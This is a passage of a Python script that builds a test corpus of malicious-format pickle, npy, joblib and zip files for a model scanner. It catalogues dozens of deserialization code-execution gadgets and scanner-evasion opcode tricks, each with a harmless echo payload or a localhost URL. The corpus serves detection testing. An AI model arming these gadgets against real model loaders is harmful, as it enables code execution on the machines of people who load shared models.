#!/usr/bin/python3
"""Blind adversarial set for `mlsec scan`.

Every file is assembled from raw opcodes / bytes; nothing here is ever
unpickled or loaded. Payloads are harmless on purpose (`echo mlsec-blind`,
paths under /tmp/mlsec_blind_*, http://127.0.0.1:9/ = discard port) in case
something does load them.  Run: /usr/bin/python3 gen_adversarial.py
Writes adversarial/ and adversarial/MANIFEST.tsv (file, class, source, expected).
"""
import base64, io, json, os, shutil, struct, tarfile, zipfile, zlib, bz2, lzma, binascii
HERE = os.path.dirname(os.path.abspath(__file__))
OUT = os.path.join(HERE, "adversarial")
shutil.rmtree(OUT, ignore_errors=True)
os.makedirs(OUT)
ROWS = []
import gzip as _gzip
def gzip_c(b):   # deterministic: no timestamp
    return _gzip.compress(b, mtime=0)
def zws(z, name, data):   # deterministic zip member
    zi = zipfile.ZipInfo(name, (1980, 1, 1, 0, 0, 0))
    zi.compress_type = z.compression
    z.writestr(zi, data)
CMD = "echo mlsec-blind"
PY = "print('mlsec-blind')"
TMP = "/tmp/mlsec_blind_file"
URL = "http://127.0.0.1:9/mlsec-blind"
PS = "https://github.com/mmaitre314/picklescan/security/advisories/"

def write(name, data, cls, src, expected="malicious"):
    p = os.path.join(OUT, name)
    os.makedirs(os.path.dirname(p), exist_ok=True)
    with open(p, "wb") as f:
        f.write(data)
    ROWS.append((name, cls, src, expected))

# ---------------------------------------------------------------- pickle assembler
class G:   # a global
    def __init__(self, mod, name): self.mod, self.name = mod, name
class C:   # a call: f(*args)
    def __init__(self, f, *args): self.f, self.args = f, args
class Raw:
    def __init__(self, b): self.b = b

def enc(x, proto=4, sg=True):
    b = bytearray()
    if isinstance(x, Raw): b += x.b
    elif x is None: b += b"N"
    elif x is True: b += b"\x88" if proto >= 2 else b"I01\n"
    elif x is False: b += b"\x89" if proto >= 2 else b"I00\n"
    elif isinstance(x, int):
        if proto >= 1 and -2**31 <= x < 2**31: b += b"J" + struct.pack("<i", x)
        else: b += b"I%d\n" % x
    elif isinstance(x, float):
        b += b"G" + struct.pack(">d", x) if proto >= 1 else b"F%r\n" % x
    elif isinstance(x, str):
        u = x.encode()
        if proto >= 4 and len(u) < 256: b += b"\x8c" + bytes([len(u)]) + u
        elif proto >= 1: b += b"X" + struct.pack("<I", len(u)) + u
        else: b += b"V" + x.encode("raw_unicode_escape") + b"\n"
    elif isinstance(x, bytes):
        if proto >= 3: b += (b"C" + bytes([len(x)]) if len(x) < 256 else b"B" + struct.pack("<I", len(x))) + x
        else: b += enc(C(G("_codecs", "encode"), x.decode("latin1"), "latin1"), proto, sg)
    elif isinstance(x, tuple):
        if not x: b += b")"
        else:
            b += b"(" + b"".join(enc(e, proto, sg) for e in x) + b"t"
    elif isinstance(x, list):
        b += b"]" if proto >= 1 else b"(l"
        if x:
            b += b"(" + b"".join(enc(e, proto, sg) for e in x) + b"e"
    elif isinstance(x, dict):
        b += b"}" if proto >= 1 else b"(d"
        if x:
            b += b"(" + b"".join(enc(k, proto, sg) + enc(v, proto, sg) for k, v in x.items()) + b"u"
    elif isinstance(x, G):
        if proto >= 4 and sg: b += enc(x.mod, proto) + enc(x.name, proto) + b"\x93"
        else: b += b"c" + x.mod.encode() + b"\n" + x.name.encode() + b"\n"
    elif isinstance(x, C):
        b += enc(x.f, proto, sg) + enc(tuple(x.args), proto, sg) + b"R"
    else:
        raise TypeError(x)
    return bytes(b)

def pkl(x, proto=4, sg=True):
    head = b"\x80" + bytes([proto]) if proto >= 2 else b""
    return head + enc(x, proto, sg) + b"."

def sys_os():  # the harmless-call helper for the last step of many chains
    return C(G("os", "system"), CMD)

def pk(name, x, cls, src, proto=4, expected="malicious", sg=True):
    write(name, pkl(x, proto, sg), cls, src, expected)

def inst(mod, name):   # an instance made by calling the class with no argument
    return C(G(mod, name))

def meth(mod, cls, m, *args):  # Class.method(Class(), *args) via a dotted STACK_GLOBAL name
    return C(G(mod, f"{cls}.{m}"), inst(mod, cls), *args)

# ---------------------------------------------------------------- 1. innocent-looking stdlib entry points
S = "stdlib entry point runs code"
pk("pip_main.pkl", C(G("pip", "main"), ["install", "--index-url", URL, "mlsec-blind-nonexistent"]), "pip installs a package (code)", "CVE-2025-1716")
pk("pip_internal_cli_main.pkl", C(G("pip._internal.cli.main", "main"), ["install", "--no-index", "-f", "/tmp/mlsec_blind", "x"]), "pip internal entry point", "CVE-2025-1716; GHSA-vqmv-47xg-9wpr")
pk("pip_vendor_distlib_scriptmaker.pkl", C(G("pip._vendor.distlib.scripts", "ScriptMaker"), "/tmp/mlsec_blind_src", "/tmp/mlsec_blind_dst"), "pip vendored distlib writes scripts", "promptfoo/modelaudit#598 (CVE-2025-1716 family)")
pk("ensurepip_run_pip.pkl", C(G("ensurepip", "_run_pip"), ["--version"], [TMP]), "ensurepip._run_pip runs a subprocess", PS + "GHSA-xp4f-hrf8-rxw7")
pk("idlelib_calltip_get_entity.pkl", C(G("idlelib.calltip", "get_entity"), "__import__('os').system('echo mlsec-blind')"), "idlelib eval", PS + "GHSA-6w4w-5w54-rjvr (idlelib get_entity eval)")
pk("idlelib_autocomplete_fetch.pkl", meth("idlelib.autocomplete", "AutoComplete", "fetch_completions", "__import__('os')", 1), "idlelib eval", PS + "GHSA-7cq8-mj8x-j263")
pk("idlelib_run_executive_runcode.pkl", C(G("idlelib.run", "Executive.runcode"), C(G("builtins", "object")), PY), "idlelib exec", PS + "GHSA-m869-42cg-3xwr")
pk("idlelib_pyshell_runcommand.pkl", C(G("idlelib.pyshell", "ModifiedInterpreter.runcommand"), None, PY), "idlelib exec", PS + "GHSA-j343-8v2j-ff7w")
pk("idlelib_debugobj_treeitem.pkl", C(G("idlelib.debugobj", "ObjectTreeItem.SetText"), C(G("idlelib.debugobj", "ObjectTreeItem"), "x", None, G("builtins", "print")), "1"), "idlelib eval via SetText", PS + "GHSA-3vg9-h568-4w9m")
pk("lib2to3_grammar_loads.pkl", meth("lib2to3.pgen2.grammar", "Grammar", "loads", b"\x80\x04cos\nsystem\n\x8c\x10echo mlsec-blind\x85R."), "nested pickle via lib2to3 Grammar.loads", PS + "GHSA-f54q-57x4-jg88")
pk("lib2to3_grammar_load_file.pkl", meth("lib2to3.pgen2.grammar", "Grammar", "load", TMP), "lib2to3 Grammar.load unpickles a file", PS + "GHSA-f54q-57x4-jg88 (file variant)")
pk("lib2to3_pgen_make_label.pkl", C(G("lib2to3.pgen2.pgen", "ParserGenerator.make_label"), None, None, "'x' if __import__('os').system('echo mlsec-blind') else 'y'"), "lib2to3 eval", PS + "GHSA-p9w7-82w4-7q8m")
pk("bdb_run.pkl", meth("bdb", "Bdb", "run", PY), "bdb exec", "picklescan#29 (bdb/pdb)")
pk("pdb_run.pkl", C(G("pdb", "run"), PY), "pdb exec", "picklescan#29")
pk("trace_run.pkl", meth("trace", "Trace", "run", PY), "trace exec", PS + "GHSA-5qwp-399c-mjwf")
pk("trace_runctx.pkl", meth("trace", "Trace", "runctx", PY, {}, {}), "trace exec", PS + "GHSA-g344-hcph-8vgg")
pk("profile_run.pkl", meth("profile", "Profile", "run", PY), "profile exec", PS + "GHSA-x696-vm39-cp64")
pk("cprofile_runctx.pkl", C(G("cProfile", "runctx"), PY, {}, {}), "cProfile exec", PS + "GHSA-9w88-8rmg-7g2p")
pk("timeit_timeit.pkl", C(G("timeit", "timeit"), PY, "pass", None, 1), "timeit exec", "GHSA-46h3-79wf-xr6c")
pk("doctest_debug_script.pkl", C(G("doctest", "debug_script"), PY), "doctest exec", PS + "GHSA-fqq6-7vqf-w3fg")
pk("distutils_spawn.pkl", C(G("distutils.spawn", "spawn"), ["echo", "mlsec-blind"]), "distutils spawns", "CVE-2025-10155 family (distutils)")
pk("distutils_file_util_write_file.pkl", C(G("distutils.file_util", "write_file"), TMP, ["x"]), "distutils writes a file", "CVE-2025-10155")
pk("setuptools_distutils_spawn.pkl", C(G("setuptools._distutils.spawn", "spawn"), ["echo", "mlsec-blind"]), "vendored distutils spawns", "CVE-2025-10155 family")
pk("posixsubprocess_fork_exec.pkl", C(G("_posixsubprocess", "fork_exec"), [b"/bin/echo", b"mlsec-blind"], [b"/bin/echo"], True, (), None, None,
    -1, -1, -1, -1, -1, -1, -1, -1, False, False, -1, None, None, None, -1, None, False), "_posixsubprocess.fork_exec", "JFrog/Sonatype picklescan research; fickling#210")
pk("asyncio_subprocess_transport.pkl", C(G("asyncio.unix_events", "_UnixSubprocessTransport"), None, CMD, True, None, None, None, 0), "asyncio subprocess transport", "CVE-2025-10157")
pk("asyncio_run_create_subprocess_shell.pkl", C(G("asyncio", "run"), C(G("asyncio.subprocess", "create_subprocess_shell"), CMD)), "asyncio.run(create_subprocess_shell)", "CVE-2025-10157 family")
pk("asyncio_base_events_subprocess.pkl", C(G("asyncio.base_events", "BaseEventLoop.subprocess_shell"), C(G("asyncio", "new_event_loop")), None, CMD), "asyncio loop subprocess_shell", "CVE-2025-10157 family")
pk("ssl_get_server_certificate.pkl", C(G("ssl", "get_server_certificate"), ("127.0.0.1", 9)), "network: ssl connect", PS + "GHSA-hgrh-qx5j-jfwx")
pk("smtplib_smtp.pkl", C(G("smtplib", "SMTP"), "127.0.0.1", 9), "network: smtplib connect", PS + "GHSA-hgrh-qx5j-jfwx family")
pk("imaplib_imap4.pkl", C(G("imaplib", "IMAP4"), "127.0.0.1", 9), "network: imaplib connect", "GHSA-hgrh-qx5j-jfwx family")
pk("imaplib_imap4_stream.pkl", C(G("imaplib", "IMAP4_stream"), CMD), "imaplib.IMAP4_stream runs a command", "CVE-2026-56315")
pk("ftplib_ftp.pkl", C(G("ftplib", "FTP"), "127.0.0.1"), "network: ftplib connect", "network class")
pk("poplib_pop3.pkl", C(G("poplib", "POP3"), "127.0.0.1", 9), "network: poplib connect", "network class")
pk("nntplib_nntp.pkl", C(G("nntplib", "NNTP"), "127.0.0.1", 9), "network: nntplib connect", "network class")
pk("http_client_request.pkl", C(G("http.client", "HTTPConnection.request"), C(G("http.client", "HTTPConnection"), "127.0.0.1", 9), "GET", "/mlsec-blind"), "network: http.client request", PS + "GHSA-hgrh-qx5j-jfwx")
pk("urllib_urlretrieve.pkl", C(G("urllib.request", "urlretrieve"), URL, TMP), "network+file: urlretrieve", "network class")
pk("xmlrpc_serverproxy_call.pkl", C(G("builtins", "getattr"), C(G("xmlrpc.client", "ServerProxy"), URL), "system.listMethods"), "network: xmlrpc proxy", "network class", expected="malicious")
pk("socket_create_connection.pkl", C(G("socket", "create_connection"), ("127.0.0.1", 9)), "network: socket", "network class")
pk("uuid_get_command_stdout.pkl", C(G("uuid", "_get_command_stdout"), "echo", "mlsec-blind"), "uuid internal runs a command", "CVE-2026-56315")
pk("osx_support_read_output.pkl", C(G("_osx_support", "_read_output"), CMD), "_osx_support runs a shell command", "CVE-2026-56315")
pk("aix_support_read_cmd_output.pkl", C(G("_aix_support", "_read_cmd_output"), CMD), "_aix_support runs a command", "CVE-2026-56315")
pk("pyrepl_pager_pipe.pkl", C(G("_pyrepl.pager", "pipe_pager"), "x", CMD), "_pyrepl.pager runs a command", "CVE-2026-56315")
pk("pydoc_pipepager.pkl", C(G("pydoc", "pipepager"), "x", CMD), "pydoc.pipepager runs a shell command", "pydoc pager class")
pk("pydoc_locate_chain.pkl", C(C(G("pydoc", "locate"), "os.system"), CMD), "pydoc.locate resolves os.system", "GHSA-vvpj-8cmc-gx39 class")
pk("pkgutil_resolve_name_chain.pkl", C(C(G("pkgutil", "resolve_name"), "os:system"), CMD), "pkgutil.resolve_name universal bypass", "GHSA-vvpj-8cmc-gx39")
pk("logging_config_resolve.pkl", C(C(G("logging.config", "_resolve"), "os.system"), CMD), "logging.config._resolve import", "logging.config factory class")
pk("logging_config_dictconfig_factory.pkl", C(G("logging.config", "dictConfig"), {"version": 1, "handlers": {"h": {"()": "os.system", "command": CMD}}}), "logging.config dictConfig '()' factory", "logging.config factory class")
pk("logging_config_fileconfig.pkl", C(G("logging.config", "fileConfig"), TMP + ".ini"), "logging.config.fileConfig evals", "logging.config factory class")
pk("logging_config_listen.pkl", C(G("logging.config", "listen"), 9), "logging.config.listen (network config server)", "logging.config factory class")
pk("runpy_run_path.pkl", C(G("runpy", "run_path"), TMP + ".py"), "runpy runs a file", "runpy class")
pk("runpy_run_module.pkl", C(G("runpy", "run_module"), "this"), "runpy runs a module", "runpy class")
pk("runpy_run_code.pkl", C(G("runpy", "_run_code"), C(G("builtins", "compile"), PY, "<x>", "exec"), {}), "runpy._run_code + compile", "runpy class")
pk("code_interactive_runsource.pkl", meth("code", "InteractiveInterpreter", "runsource", PY), "code.InteractiveInterpreter exec", PS + "GHSA (code.InteractiveInterpreter.runcode, picklescan#48)")
pk("code_console_push.pkl", meth("code", "InteractiveConsole", "push", PY), "code.InteractiveConsole exec", "picklescan#48 family")
pk("codeop_compile_exec.pkl", C(G("builtins", "exec"), C(G("codeop", "compile_command"), PY)), "codeop compile + exec", "codeop class")
pk("importlib_import_module_getattr.pkl", C(C(G("builtins", "getattr"), C(G("importlib", "import_module"), "os"), "system"), CMD), "importlib + getattr chain", "picklescan#66, #74")
pk("importlib_find_spec_chain.pkl", C(G("importlib.util", "module_from_spec"), C(G("importlib.util", "find_spec"), "os")), "importlib.util spec chain", "picklescan#66")
pk("dunder_import_getattr.pkl", C(C(G("builtins", "getattr"), C(G("builtins", "__import__"), "subprocess"), "getoutput"), CMD), "__import__ + getattr chain", "classic")
pk("marshal_loads_exec.pkl", C(G("builtins", "exec"), C(G("marshal", "loads"), b"\xe3mlsec-blind-not-real-bytecode")), "marshal.loads + exec", "picklescan#74")
pk("operator_attrgetter_chain.pkl", C(C(G("operator", "attrgetter"), "system"), C(G("importlib", "import_module"), "os")), "operator.attrgetter chain", PS + "GHSA-m273-6v24-x4m4")
pk("operator_methodcaller_sysmodules.pkl", C(C(G("operator", "methodcaller"), "system", CMD), C(C(G("operator", "itemgetter"), "os"), G("sys", "modules"))), "methodcaller on sys.modules['os']", PS + "GHSA-955r-x9j8-7rhh")
pk("_operator_methodcaller.pkl", C(C(G("_operator", "methodcaller"), "getoutput", CMD), C(G("importlib", "import_module"), "subprocess")), "_operator.methodcaller", PS + "GHSA-m273-6v24-x4m4")
pk("functools_partial_system.pkl", C(C(G("functools", "partial"), G("os", "system"), CMD)), "functools.partial wrapping os.system", "fickling#210 (partial)")
pk("functools_reduce_getattr.pkl", C(G("functools", "reduce"), G("builtins", "getattr"), ["system"], C(G("importlib", "import_module"), "os")), "functools.reduce getattr", "chain class", expected="malicious")
pk("builtins_getattr_builtins_eval.pkl", C(C(G("builtins", "getattr"), G("builtins", "__builtins__"), "eval"), "1"), "getattr chain to eval", "chain class")
pk("builtins_getattr_dict_get.pkl", C(C(G("builtins", "getattr"), C(G("builtins", "vars"), C(G("builtins", "__import__"), "os")), "get"), "system"), "vars(module).get('system')", "chain class")
pk("builtins_breakpoint.pkl", C(G("builtins", "breakpoint")), "builtins.breakpoint (pdb)", "debugger class")
pk("builtins_open_write.pkl", C(C(G("builtins", "getattr"), C(G("builtins", "open"), TMP, "w"), "write"), "x"), "open + write", "file class")
pk("io_fileio.pkl", C(G("_io", "FileIO"), TMP, "w"), "_io.FileIO writes", "CVE-2025-10156")
pk("pathlib_write_text.pkl", C(G("pathlib", "Path.write_text"), C(G("pathlib", "Path"), TMP), "x"), "pathlib write_text", "issue 9 (Path write_*)")
pk("pathlib_read_text.pkl", C(G("pathlib", "PosixPath.read_text"), C(G("pathlib", "PurePosixPath"), "/etc/hostname")), "pathlib read_text on a pure path arg", "issue 9 (Path read_text)")
pk("shutil_rmtree.pkl", C(G("shutil", "rmtree"), "/tmp/mlsec_blind_nonexistent"), "shutil deletes", "picklescan#29")
pk("tempfile_mkstemp.pkl", C(G("tempfile", "mkstemp"), "", "mlsec_blind", "/tmp"), "tempfile creates file", "file class", expected="suspicious")
pk("webbrowser_open.pkl", C(G("webbrowser", "open"), URL), "webbrowser runs a browser", "network/exec class")
pk("ctypes_cdll.pkl", C(G("ctypes", "CDLL"), "/tmp/mlsec_blind.so"), "ctypes loads a library", "native code class")
pk("pty_spawn.pkl", C(G("pty", "spawn"), ["echo", "mlsec-blind"]), "pty.spawn", "exec class")
pk("os_posix_spawn.pkl", C(G("posix", "posix_spawn"), "/bin/echo", ["echo", "mlsec-blind"], {}), "posix.posix_spawn", "exec class")
pk("multiprocessing_spawnv_passfds.pkl", C(G("multiprocessing.util", "spawnv_passfds"), "/bin/echo", ["echo", "mlsec-blind"], ()), "multiprocessing.util spawn", "exec class")
pk("venv_create_with_pip.pkl", C(G("venv", "create"), "/tmp/mlsec_blind_venv", False, False, False, False, True), "venv create with pip", PS + "GHSA-vqmv-47xg-9wpr")
pk("zipimport_load.pkl", C(G("zipimport", "zipimporter.load_module"), C(G("zipimport", "zipimporter"), "/tmp/mlsec_blind.zip"), "x"), "zipimport loads code", "import class")
pk("sqlite3_connect_execute.pkl", C(G("sqlite3", "Connection.execute"), C(G("sqlite3", "connect"), TMP), "select 1"), "sqlite3 writes a file", "file class", expected="suspicious")
pk("test_support_script_helper.pkl", C(G("test.support.script_helper", "assert_python_ok"), "-c", PY), "test.support runs python", "exec class")
pk("dataclasses_create_fn.pkl", C(G("dataclasses", "_create_fn"), "f", (), "  return __import__('os').system('echo mlsec-blind')"), "dataclasses._create_fn exec", "issue 9 (dataclasses internals)")
pk("typing_eval_type.pkl", C(G("typing", "_eval_type"), C(G("typing", "ForwardRef"), "__import__('os').system('echo mlsec-blind')"), {}, {}), "typing._eval_type eval", "issue 9 (typing internals)")
pk("typing_forwardref_evaluate.pkl", C(G("typing", "ForwardRef._evaluate"), C(G("typing", "ForwardRef"), "len('mlsec-blind')"), {}, {}, C(G("builtins", "frozenset"))), "typing ForwardRef._evaluate", "issue 9 (typing internals)")
pk("cgi_or_platform_popen.pkl", C(G("platform", "_syscmd_file"), "/tmp/mlsec_blind"), "platform runs `file`", "exec class", expected="suspicious")
pk("subprocess_getoutput_p0.pkl", C(G("subprocess", "getoutput"), CMD), "plain subprocess, protocol 0 (control)", "control", proto=0)

# ---------------------------------------------------------------- 2. library helpers that import / load / compile / download
pk("torch_fx_forward_from_src.pkl", C(G("torch.fx.graph_module", "_forward_from_src"), "def forward(self):\n    return __import__('os').system('echo mlsec-blind')\n", {}), "torch.fx exec of source", "picklescan GHSA (torch.fx) / fickling")
pk("torch_hub_download.pkl", C(G("torch.hub", "download_url_to_file"), URL, TMP), "torch.hub download", "library download class")
pk("torch_hub_load.pkl", C(G("torch.hub", "load"), "mlsec/blind", "m"), "torch.hub.load runs hubconf", "library download+exec class")
pk("torch_load_nested.pkl", C(G("torch", "load"), TMP + ".pt"), "torch.load of another file", "nested load class")
pk("torch_jit_load.pkl", C(G("torch.jit", "load"), TMP + ".pt"), "torch.jit.load", "nested load class")
pk("torch_cpp_extension_load_inline.pkl", C(G("torch.utils.cpp_extension", "load_inline"), "x", "int x(){return 0;}"), "torch compiles C++", "library compile class")
pk("torch_bottleneck_run_autograd_prof.pkl", C(G("torch.utils.bottleneck.__main__", "run_autograd_prof"), PY, {}), "torch bottleneck exec", PS + "GHSA-4whj-rm5r-c2v8")
pk("torch_serialization_load.pkl", C(G("torch.serialization", "load"), TMP), "torch.serialization.load", "nested load class")
pk("numpy_load_allow_pickle.pkl", C(G("numpy", "load"), TMP + ".npy", None, True), "numpy.load allow_pickle", "nested load class")
pk("numpy_testing_runstring.pkl", C(G("numpy.testing._private.utils", "runstring"), PY, {}), "numpy.testing runstring exec", "library exec class")
pk("numpy_f2py_getlincoef.pkl", C(G("numpy.f2py.crackfortran", "getlincoef"), "__import__('os').system('echo mlsec-blind')", {}), "numpy f2py eval", "fickling#210 (f2py)")
pk("numpy_distutils_exec_command.pkl", C(G("numpy.distutils.exec_command", "exec_command"), CMD), "numpy.distutils exec_command", "library exec class")
pk("numpy_ctypeslib_load_library.pkl", C(G("numpy.ctypeslib", "load_library"), "mlsec_blind", "/tmp"), "numpy loads a library", "native code class")
pk("numpy_datasource_open.pkl", C(G("numpy.lib._datasource", "open"), URL), "numpy DataSource fetches URL", "network class")
pk("pandas_read_pickle.pkl", C(G("pandas", "read_pickle"), TMP + ".pkl"), "pandas.read_pickle nested", "nested load class")
pk("pandas_read_csv_url.pkl", C(G("pandas.io.parsers.readers", "read_csv"), URL), "pandas.read_csv URL", "network class", expected="suspicious")
pk("pandas_eval.pkl", C(G("pandas.core.computation.eval", "eval"), "1+1", None, "python"), "pandas eval", "library eval class")
pk("pandas_io_common_urlopen.pkl", C(G("pandas.io.common", "urlopen"), URL), "pandas urlopen", "network class")
pk("joblib_load_nested.pkl", C(G("joblib", "load"), TMP + ".joblib"), "joblib.load nested", "nested load class")
pk("sklearn_fetch_openml.pkl", C(G("sklearn.datasets", "fetch_openml"), "mlsec-blind"), "sklearn downloads", "network class", expected="suspicious")
pk("scipy_io_loadmat.pkl", C(G("scipy.io", "loadmat"), TMP), "scipy reads a file", "file class", expected="suspicious")
pk("pickle_loads_nested.pkl", C(G("pickle", "loads"), b"\x80\x04cos\nsystem\n\x8c\x10echo mlsec-blind\x85R."), "nested pickle.loads", PS + "GHSA-84r2-jw7c-4r5q")
pk("_pickle_loads_nested.pkl", C(G("_pickle", "loads"), b"\x80\x04cposix\nsystem\n\x8c\x10echo mlsec-blind\x85R."), "nested _pickle.loads", PS + "GHSA-84r2-jw7c-4r5q")
pk("pickle_load_file.pkl", C(G("pickle", "load"), C(G("builtins", "open"), TMP, "rb")), "pickle.load of file", PS + "GHSA-84r2-jw7c-4r5q")
pk("xgboost_load_model_url.pkl", C(G("xgboost.core", "Booster"), None, None, TMP), "xgboost loads file", "file class", expected="suspicious")

# ---------------------------------------------------------------- 3. opcode tricks
def P(*parts): return b"".join(parts)
def su(s): return b"\x8c" + bytes([len(s)]) + s.encode()
hdr = b"\x80\x04"
# STACK_GLOBAL with names pulled from memo
write("stack_global_memo_names.pkl", P(hdr, su("os"), b"\x940", su("system"), b"\x940", b"h\x00h\x01\x93", su(CMD), b"\x85R."),
      "STACK_GLOBAL from memo (BINGET)", "picklescan GHSA-9gvj-pp9x-gcfr parsing-flaw class")
# memo overwrite: first put innocent, then overwrite index 0 with 'os'
write("memo_overwrite.pkl", P(hdr, su("numpy"), b"q\x00", b"0", su("os"), b"q\x00", b"0", su("system"), b"q\x01", b"0",
      b"h\x00h\x01\x93", su(CMD), b"\x85R."), "memo index overwritten before STACK_GLOBAL", "memo trick")
# computed module name: operator.add('o','s') → STACK_GLOBAL
write("stack_global_computed_name.pkl", P(hdr, enc(C(G("operator", "add"), "o", "s")), su("system"), b"\x93", su(CMD), b"\x85R."),
      "STACK_GLOBAL with computed module name", "computed name class")
write("stack_global_computed_join.pkl", P(hdr, enc(C(G("builtins", "str.join"), "", ["subpro", "cess"])), enc(C(G("builtins", "str.join"), "", ["get", "output"])), b"\x93", su(CMD), b"\x85R."),
      "STACK_GLOBAL with str.join names", "computed name class")
# INST and OBJ opcodes (protocol 0/1 class calls)
write("inst_opcode_popen.pkl", b"((S'echo'\nS'mlsec-blind'\nlp0\nisubprocess\nPopen\n.", "INST opcode calls subprocess.Popen", "opcode coverage")
write("obj_opcode_popen.pkl", P(hdr, b"(", enc(G("subprocess", "Popen")), enc(["echo", "mlsec-blind"]), b"o."), "OBJ opcode calls subprocess.Popen", "opcode coverage")
write("inst_opcode_system.pkl", b"(S'echo mlsec-blind'\nios\nsystem\n.", "INST opcode calls os.system", "opcode coverage")
# __reduce_ex__ tricks: copyreg._reconstructor runs base.__init__
pk("copyreg_reconstructor_popen.pkl", C(G("copyreg", "_reconstructor"), G("subprocess", "Popen"), G("subprocess", "Popen"), ["echo", "mlsec-blind"]), "copyreg._reconstructor runs Popen.__init__", "__reduce_ex__ trick")
pk("copyreg_newobj_popen.pkl", C(G("copyreg", "__newobj__"), G("subprocess", "Popen"), ["echo", "mlsec-blind"]), "copyreg.__newobj__", "__reduce_ex__ trick", expected="suspicious")
write("newobj_ex_popen.pkl", P(hdr, enc(G("subprocess", "Popen")), enc((["echo", "mlsec-blind"],)), b"}", b"\x92."), "NEWOBJ_EX with Popen", "__reduce_ex__ trick", expected="suspicious")
# BUILD calling __setstate__ of an object whose setstate is dangerous-ish: state dict sets attributes then REDUCE on a memo'd callable
write("build_setstate_then_call.pkl", P(hdr, enc(G("builtins", "getattr")), b"\x940", enc(C(G("builtins", "__import__"), "os")), b"\x94",
      b"0h\x00(h\x01", su("system"), b"tR\x94", su(CMD), b"\x85R."), "memo'd getattr reused via BINGET", "memo trick")
# GLOBAL names with odd whitespace/encoding
write("global_unicode_lookalike.pkl", b"\x80\x02c__builtin__\neval\n(X\x03\x00\x00\x001+1tR.", "__builtin__ (py2 name) eval", "name aliasing")
write("global_py2_builtin_map.pkl", b"\x80\x02cexceptions\nException\n)R0c__builtin__\napply\n(cposix\nsystem\n(S'echo mlsec-blind'\nttR.", "py2 __builtin__.apply + posix.system", "name aliasing")
write("global_nt_system.pkl", b"\x80\x02cnt\nsystem\n(S'echo mlsec-blind'\ntR.", "nt.system (windows os)", "name aliasing")
# two pickles: first benign, second malicious (pickle.load called twice by some loaders)
write("two_pickles_second_bad.pkl", pkl({"ok": 1}) + pkl(sys_os()), "second pickle in stream malicious", "trailing pickle class")
# benign-looking payload deep inside a realistic dict
write("dict_deep_payload.pkl", pkl({"model": {"coef": [0.1, 0.2], "meta": {"n": 3, "hook": C(G("subprocess", "check_output"), ["echo", "mlsec-blind"])}}}), "payload nested in a dict", "nesting")
# FRAME lies about its size
write("frame_size_lie.pkl", P(hdr, b"\x95" + struct.pack("<Q", 3), enc(sys_os()), b"."), "FRAME length inconsistent", "parser confusion", expected="malicious")
# truncated/garbage after a malicious prefix (parser error must not hide the call)
write("truncated_after_reduce.pkl", P(hdr, enc(sys_os()), b"\xff\xfe\xfd"), "garbage after REDUCE, no STOP", "parser confusion")
# an EXT opcode (extension registry)
write("ext1_opcode.pkl", P(hdr, b"\x82\x01", su(CMD), b"\x85R."), "EXT1 global via copyreg registry", "opcode coverage", expected="suspicious")
# PERSID / BINPERSID with malicious-looking id (torch uses persistent_load)
write("binpersid_call.pkl", P(hdr, enc(("storage", G("os", "system"), CMD)), b"Q."), "BINPERSID with a global in its id", "opcode coverage")
# protocol 5 with bytearray8/next_buffer + payload
write("proto5_buffers.pkl", P(b"\x80\x05", b"\x96" + struct.pack("<Q", 3) + b"abc", b"0", enc(sys_os(), 5), b"."), "protocol 5 BYTEARRAY8 then call", "opcode coverage")

# ---------------------------------------------------------------- 4. containers: joblib, numpy, torch zips and tars
def npy_header(descr, shape, fortran=False):
    d = "{'descr': %r, 'fortran_order': %s, 'shape': %r, }" % (descr, fortran, shape)
    h = d.encode() + b" " * ((64 - (10 + len(d) + 1) % 64) % 64) + b"\n"
    return b"\x93NUMPY\x01\x00" + struct.pack("<H", len(h)) + h
bad = pkl(C(G("subprocess", "call"), ["echo", "mlsec-blind"]), 2)
write("numpy_object_payload.npy", npy_header("|O", (1,)) + bad, "npy object array with malicious pickle", "numpy allow_pickle class")
buf = io.BytesIO()
with zipfile.ZipFile(buf, "w") as z:
    zws(z, "weights.npy", npy_header("<f8", (2,)) + struct.pack("<2d", 1, 2))
    zws(z, "labels.npy", npy_header("|O", (1,)) + bad)
write("numpy_npz_object_member.npz", buf.getvalue(), "npz with object member pickle", "numpy allow_pickle class")
# joblib: NumpyArrayWrapper for object dtype; the array payload after the wrapper is a nested pickle
jw = P(b"\x80\x04", enc(C(G("joblib.numpy_pickle", "NumpyArrayWrapper"))), b"}", enc({"subclass": G("numpy", "ndarray"), "shape": (1,), "order": "C",
      "dtype": C(G("numpy", "dtype"), "O8", False, True), "allow_mmap": False}), b"u", b"b.", bad)
write("joblib_wrapper_nested_object.joblib", jw, "joblib object array pickle after NumpyArrayWrapper", "nested pickle in joblib")
_zfdata = pkl(sys_os(), 2)
write("joblib_zlib_payload.joblib", b"ZF" + ("%#x" % len(_zfdata)).ljust(19).encode() + zlib.compress(_zfdata), "joblib legacy ZF format (joblib < 0.10 compressed dump)", "issue 9 (joblib legacy ZF)")
write("joblib_zlib_plain.joblib", zlib.compress(pkl(sys_os(), 4)), "zlib-compressed joblib dump with payload", "compression")
write("joblib_gzip_payload.joblib", gzip_c(pkl(sys_os())), "gzip joblib payload", "compression")
write("joblib_bz2_payload.joblib", bz2.compress(pkl(sys_os())), "bz2 joblib payload", "compression")
write("joblib_xz_payload.joblib", lzma.compress(pkl(sys_os())), "xz joblib payload", "compression")
write("joblib_lzma_alone_payload.joblib", lzma.compress(pkl(sys_os()), format=lzma.FORMAT_ALONE), "lzma-alone joblib payload", "compression")
try:
    import lz4.frame
    write("joblib_lz4_payload.joblib", b"\x04\x22\x4d\x18"[:0] + lz4.frame.compress(pkl(sys_os())), "lz4 frame joblib payload", "issue 9 (lz4)")
except ImportError:
    pass
write("gzip_double_payload.pkl.gz", gzip_c(gzip_c(pkl(sys_os()))), "gzip inside gzip", "compression")

def crc(b): return binascii.crc32(b) & 0xffffffff
def rawzip(entries, prefix=b"", extra_cd=None, comment=b""):
    """entries: dicts with name, data, [cname] (central name), [method], [flags], [ldata] (local data override)."""
    out = bytearray(prefix); cd = bytearray()
    for e in entries:
        data = e["data"]; meth_ = e.get("method", 0)
        comp = zlib.compress(data)[2:-4] if meth_ == 8 else data
        ldata = e.get("ldata", comp)
        comp = ldata
        off = len(out)
        flags = e.get("flags", 0)
        lname = e["name"].encode(); cname = e.get("cname", e["name"]).encode()
        lsz = (0, 0, 0) if flags & 8 else (crc(data), len(comp), len(data))
        out += struct.pack("<IHHHHHIIIHH", 0x04034b50, 20, flags, meth_, 0, 0x21, *lsz, len(lname), 0) + lname + ldata
        if flags & 8:
